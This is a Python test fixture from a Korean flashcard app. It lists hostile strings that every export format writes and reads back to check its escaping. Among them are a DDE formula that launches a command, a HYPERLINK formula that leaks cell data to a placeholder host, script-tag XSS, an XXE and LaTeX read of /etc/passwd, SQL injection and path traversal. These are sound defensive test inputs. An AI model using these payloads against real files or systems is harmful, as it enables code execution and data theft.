"""One list of texts that break careless exports. The tests of each format write all of them and read them back.

The texts can come from a word list, a model, an edit, or a profile's expression. Where texts enter the project, some of
these characters are removed (``domain.clean_text``), but an expression can create them again.
"""

from collections.abc import Iterable
from typing import Any

from korean_flashcards.exports.content import ExportContent
from korean_flashcards.exports.export_fields import DEFAULT_FIELDS
from support.export_content import card_table, content_of

HOSTILE: dict[str, str] = {
    # Spreadsheets evaluate these as formulas.
    "formula": "=1+1",
    "formula with a command": "=cmd|' /C calc'!A0",
    "formula with a link": '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "formula with a plus": "+1+1",
    "formula with a minus": "-2+3",
    "formula with an at sign": "@SUM(1+1)",
    "formula after a space": " =1+1",
    "formula after a tab": "\t=1+1",
    "formula after a carriage return": "\r=1+1",
    "formula after a line feed": "\n=1+1",
    "formula in full width": "＝1+1",
    "plus, minus and at in full width": "＋1 －1 ＠1",
    "minus in full width": "－1+1",
    "plus in full width": "＋1+1",
    "at in full width": "＠SUM(1)",
    "formula in a second cell": "a,=1+1",
    "formula in a second line": 'a\n"=1+1',
    "formula after a BOM": "\ufeff=1+1",
    "array formula": "{=1+1}",
    "ending": "-지만",
    "link": "http://example.com/a?b=c#d",
    "mail": "mailto:a@example.com",
    "internal link": "internal:Sheet2!A1",
    # Spreadsheets convert these to numbers, dates, or errors.
    "long number": "12345678901234567890",
    "number with zeros": "007",
    "number with an exponent": "1e5",
    "number of a card": "4111111111111111",
    "date": "2026-11-30",
    "date with slashes": "1/2",
    "month": "MAR1",
    "time": "12:30",
    "percentage": "50%",
    "truth": "TRUE",
    "error": "#REF!",
    "not a number": "NaN",
    "infinity": "-inf",
    "null": "null",
    "none": "None",
    "not available": "NA",
    # Separators, quotes, and their escapes.
    "quote": '"',
    "two quotes": '""',
    "quote at the start": '"quoted" word',
    "quote at the end": 'a "quoted"',
    "quote without an end": '"never closed\tand a tab',
    "quote and comma": '","',
    "tab": "a\tb",
    "tab at both ends": "\ta\t",
    "line feed": "a\nb",
    "CR and LF": "a\r\nb",
    "carriage return": "a\rb",
    "line ends": "\n\n",
    "only CR and LF": "\r\n",
    "separators": "a,b;c|d",
    "apostrophe": "'",
    "apostrophe at the start": "'tis",
    "two apostrophes": "''=1",
    "apostrophe and formula": "'=1+1",
    "backslash": "\\",
    "escapes": "\\n \\t \\\\ \\x1f \\u0000",
    "comment": "# heading",
    "file header of Anki": "#separator:comma",
    "list": "- item",
    "spaces": "  two  spaces  ",
    "only spaces": "   ",
    "no-break space": "\xa0a\xa0",
    "other line ends": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    # Markup.
    "HTML": "<script>alert('x')</script>",
    "HTML with an event": "<img src=x onerror=\"alert('x')\">",
    "HTML that ends a script": "</script><script>alert(1)</script>",
    "HTML comment": "<!-- a --> <!--",
    "CDATA": "<![CDATA[a]]> ]]>",
    "entities": "&lt;b&gt; &amp; &#60; &nbsp; &unknown;",
    "cloze": "{{c1::x}}",
    "field": "{{Front}} {{#Back}}x{{/Back}}",
    "template of Python": "{% raw %}{{ 7*7 }} ${x} %s {0} #{x}",
    "sound": "[sound:a.mp3] [anki:tts lang=ko_KR]x[/anki:tts] [[type:Front]]",
    "LaTeX": "\\(x^2\\) \\[y\\] $z$ $$\\frac{1}{2}$$ [latex]a[/latex] [$]b[/$]",
    "LaTeX command": "\\input{/etc/passwd} \\write18{ls} 100% _a_ ^b ~c # & {",
    "Markdown": "# a\n* b\n> c\n```\nd\n```\n[e](http://example.com) ![f](g.png) `h` **i** | j |",
    "front matter": "---\na: b\n---",
    "spaced repetition": "a::b:::c\n?\nd\n??\ne==f==",
    "comment of Obsidian": "%%a%% ^block [[link]] #tag <!--SR:!2026-01-01,1,250-->",
    "spreadsheet escape": "_x0041_ _x005F_ _x000D_",
    "rich text of XlsxWriter": "<r><t>bold</t></r>",
    "rich text that is not XML": "<r>_x0041_ <broken & \t\n _x_x0042_</r>",
    "XML prefix": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "JSON": '{"a": [1, null, "\\u0000"]}',
    "SQL": "'; DROP TABLE cards; --",
    # Characters that are invisible or that a format cannot store.
    "NUL": "a\x00b",
    "control characters": "a" + "".join(map(chr, [*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F])) + "b",
    "C1 control characters": "".join(map(chr, range(0x80, 0xA0))),
    "terminal codes": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
    "right to left": "\u202e gnp.exe \u200f\u200e\u2066x\u2069",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "noncharacters": "\ufffe\uffff\U0001ffff\ufdd0",
    "private use": "\ue000\U000f0000",
    "replacement": "\ufffd",
    "jamo": "\u1112\u1161\u11ab\u1100\u116e\u11a8",  # 한국 in combining jamo
    "compatibility jamo": "ㅎㅏㄴ ㄱ",
    "Hangul filler": "\u3164\u115f",
    "old Hangul": "\u1100\u119e\u11bc",
    "hanja": "男性 樂\uf914 \U00020000",
    "IPA": "[nam.sʌŋ t͈ɕ k̚ ɾ dʑ]",
    "emoji": "😀 👩‍👩‍👧‍👦 🇰🇷 ☺️",
    "accents": "Zo\u0301e e" + "\u0301" * 40,
    "Arabic and Thai": "مرحبا ไทย",
    # Sizes and names of files.
    "empty": "",
    "10,000 characters": "가나다라마바사아자차" * 1000,
    "10,000 characters without a break": "x" * 10_000,
    "many lines": "\n".join(map(str, range(500))),
    "path": "../../x",
    "path with a root": "/etc/passwd",
    "path of Windows": "..\\..\\x C:\\x",
    "device": "CON",
    "file name": 'a/b\\c:d*e?f"g<h>i|j',
    "hidden file": ".hidden",
    "very long name": "이름" * 100,
}
# Names of decks, lists, and card types, which formats use for files, sheets, and headings.
HOSTILE_NAMES = (
    "../../x", "/etc/passwd", "CON", "nul.txt", "=1+1", "a::b", "::", "", "Korean::TOPIK 1", "korean::topik 1", "a/b",
    "<b>x</b>", "[x]", "'x'", "History", "scene", "Scene", "very long name " * 10, "한국어 😀", "\u202ex", "a\x00b",
    "a\tb\nc", "C:\\x", 'a:b*c?d"e<f>g|h', ".", "..", "-",
)  # fmt: skip


# Everything that can be unknown about a card.
_UNKNOWN = (
    "homograph", "cue", "hanja", "example", "example_translation", "confused_with", "frequency", "level", "ipa", "sound",
    "honorific_level", "list", "list_tags", "imported_on", "score", "verdict", "prompt_version",
)  # fmt: skip


def hostile_content(fields: Iterable[str] = DEFAULT_FIELDS) -> ExportContent:
    """Return the content of an export with a card for each hostile text. The other columns have hostile texts too.

    ``fields`` are the columns of the table. The default is that of a profile without ``fields``.
    """
    cards = [_card(number) for number in range(len(HOSTILE))]
    cards.append({"front": "nothing known", "back": "at all", **dict.fromkeys(_UNKNOWN)})
    return content_of(card_table(cards), fields, title="../../x <b>{{c1::=1+1}}</b> \u202e")


def _card(number: int) -> dict[str, Any]:
    """Return the columns of a card with hostile texts. Each text is on the front of one card."""
    texts = list(HOSTILE.values())
    text, back, word, meaning, example, translation, hanja = (
        texts[(number + 7 * place) % len(texts)] for place in range(7)
    )
    name = HOSTILE_NAMES[number % len(HOSTILE_NAMES)]
    card_type = HOSTILE_NAMES[number // 3 % len(HOSTILE_NAMES)] if number % 3 == 0 else "Scene"
    return {
        "front": text, "back": back, "word": word[:50], "term": text[:50], "meaning": meaning, "example": example,
        "example_translation": translation, "hanja": hanja, "deck": name, "card_type": card_type, "list": name,
        "tags": ["term:x", text[:50]], "list_tags": [name, text[:50]], "primer": word, "cue": hanja[:50],
    }  # fmt: skip
